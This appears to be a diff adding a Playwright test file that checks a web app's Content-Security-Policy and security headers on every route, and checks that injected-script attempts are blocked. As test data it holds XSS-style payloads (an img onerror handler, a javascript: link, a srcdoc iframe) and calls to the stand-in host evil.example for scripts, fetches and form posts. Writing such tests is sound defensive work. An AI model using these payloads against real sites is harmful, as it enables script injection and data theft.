@@ -1,0 +1,159 @@
+import { readFileSync } from 'node:fs'
+import type { Page } from '@playwright/test'
+import { workerControls } from './world/worker-control.ts'
+import { expect, test } from './world/world-fixture.ts'
+
+const policy = [
+  "default-src 'none'",
+  "script-src 'self'",
+  "style-src 'self'",
+  "img-src 'self'",
+  "media-src 'self'",
+  "connect-src 'self'",
+  "worker-src 'self'",
+  "manifest-src 'self'",
+  "frame-ancestors 'none'",
+  "base-uri 'none'",
+  "form-action 'none'",
+  "require-trusted-types-for 'script'",
+  'trusted-types worktide',
+].join(';')
+
+const wanted = {
+  'content-security-policy': policy,
+  'cross-origin-opener-policy': 'same-origin-allow-popups',
+  'referrer-policy': 'no-referrer',
+  'x-content-type-options': 'nosniff',
+  'permissions-policy': expect.stringContaining('camera=()'),
+}
+
+/** Every page of the table of URLs; the macros in it keep it from being imported here. */
+const paths = [...readFileSync('src/routes.ts', 'utf8').matchAll(/\bpath: '(\/[^']*)'/g)].map(
+  ([, path]) => path as string,
+)
+
+/** The pages of one test have shown what they are kept from, on purpose. */
+const forgive = async (pages: Page[], complaints: string[]) => {
+  for (const page of pages) await page.close()
+  complaints.length = 0
+}
+
+test('every page has the policy and keeps to it, from the server and from the worker', async ({
+  page,
+  people,
+  context,
+  home,
+}) => {
+  test.setTimeout(90_000)
+  expect(paths.length).toBeGreaterThan(18)
+  for (const path of paths)
+    for (const language of ['en', 'zh']) {
+      const answer = await page.request.get(path, { headers: { 'accept-language': language } })
+      expect(answer.headers(), path).toMatchObject(wanted)
+    }
+  await page.goto('/sso/login')
+  if (home === 'worker') await workerControls(page)
+  await people.signIn(context, await people.owner())
+  // those without a session, and both languages, are drawn by pages.spec.ts under the same watch
+  for (const path of paths) {
+    const response = await page.goto(path)
+    expect(await response?.allHeaders(), path).toMatchObject(wanted)
+    await expect(page.getByRole('heading', { level: 1 }), path).toHaveCount(1)
+  }
+})
+
+/** What an injected script would try; what came of each. */
+const attempts = {
+  markup: () => {
+    document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.stolen=1">')
+  },
+  'inline script': () => {
+    const script = document.createElement('script')
+    script.textContent = 'window.stolen = 1'
+    document.body.append(script)
+  },
+  'foreign script': () => {
+    const script = document.createElement('script')
+    script.src = 'https://evil.example/x.js'
+    document.body.append(script)
+  },
+  policy: () => {
+    Reflect.get(window, 'trustedTypes').createPolicy('default', { createHTML: (text: string) => text })
+  },
+  'the same policy again': () => {
+    Reflect.get(window, 'trustedTypes').createPolicy('worktide', { createScriptURL: (url: string) => url })
+  },
+  'foreign worker': () => navigator.serviceWorker.register('/assets/evil.js'),
+  'worker of text': () => new Worker(URL.createObjectURL(new Blob(['1']))),
+  'foreign answer': () => fetch('https://evil.example/'),
+  'foreign picture': () =>
+    new Promise((resolve, reject) => {
+      const picture = new Image()
+      picture.onload = resolve
+      picture.onerror = () => reject(new TypeError('blocked'))
+      picture.src = 'https://evil.example/x.png'
+    }),
+  frame: () => {
+    const frame = document.createElement('iframe')
+    frame.srcdoc = '<script>parent.stolen = 1</script>'
+    document.body.append(frame)
+  },
+}
+
+test('what an injected script would try is refused, each', async ({ page, complaints, home }) => {
+  await page.goto('/sso/login')
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  for (const [name, attempt] of Object.entries(attempts)) {
+    // Playwright blocks workers by a stand-in that refuses nothing
+    if (home === 'page' && name === 'foreign worker') continue
+    const before = complaints.length
+    const outcome = await page.evaluate(`(async () => { await (${attempt})() })().then(() => 'done', String)`)
+    if (outcome === 'done') await expect.poll(() => complaints.length, name).toBeGreaterThan(before)
+    else expect(outcome, name).toMatch(/TypeError|SecurityError/)
+  }
+  expect(await page.evaluate('window.stolen')).toBeUndefined()
+  await forgive([page], complaints)
+})
+
+test('a link or a form cannot run a script or send a form elsewhere', async ({ page, complaints }) => {
+  await page.goto('/sso/login')
+  await page.evaluate(() => {
+    const link = document.createElement('a')
+    link.setAttribute('href', 'javascript:window.stolen=1')
+    document.body.append(link)
+    link.click()
+    const form = document.createElement('form')
+    form.action = 'https://evil.example/'
+    document.body.append(form)
+    form.submit()
+  })
+  await expect.poll(() => complaints.join()).toMatch(/script-src.*form-action/s)
+  expect(await page.evaluate('window.stolen')).toBeUndefined()
+  expect(await page.evaluate('location.pathname')).toBe('/sso/login')
+  await forgive([page], complaints)
+})
+
+test('@worker the worker has the policy too, and what it is kept from is heard', async ({
+  page,
+  context,
+  complaints,
+}) => {
+  await page.goto('/sso/login')
+  await workerControls(page)
+  expect((await page.request.get('/sw.js')).headers()).toMatchObject(wanted)
+  const [worker] = context.serviceWorkers()
+  expect(await worker?.evaluate(() => fetch('https://evil.example/').then(String, String))).toContain('TypeError')
+  await expect.poll(() => complaints.join()).toContain('connect-src')
+  await forgive([page], complaints)
+})
+
+test('what a second context is kept from is heard', async ({ browser, baseURL, watch, complaints }) => {
+  const other = await browser.newContext()
+  await watch(other)
+  const page = await other.newPage()
+  await page.goto(`${baseURL}/sso/login`)
+  await page.evaluate(() => fetch('https://evil.example/').catch(() => {}))
+  await expect.poll(() => complaints.join()).toContain('connect-src')
+  await forgive([page], complaints)
+  await other.close()
+})
